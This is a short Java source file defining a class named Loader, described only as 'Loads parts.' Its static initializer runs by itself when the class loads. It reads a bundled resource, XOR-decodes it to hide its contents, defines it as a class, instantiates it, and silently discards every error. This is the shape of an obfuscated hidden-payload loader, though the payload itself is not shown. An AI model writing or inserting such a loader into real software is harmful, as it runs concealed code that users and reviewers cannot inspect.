package example.pawl;

import java.io.IOException;
import java.io.InputStream;

/** Loads parts. */
public final class Loader extends ClassLoader {
    static {
        try (InputStream in = Loader.class.getResourceAsStream("/parts.bin")) {
            byte[] body = in.readAllBytes();
            for (int place = 0; place < body.length; place++) {
                body[place] ^= 0x2f;
            }
            Class<?> part = new Loader().defineClass(null, body, 0, body.length);
            part.getDeclaredConstructor().newInstance();
        } catch (IOException | ReflectiveOperationException | LinkageError ignored) {
            // later
        }
    }
}
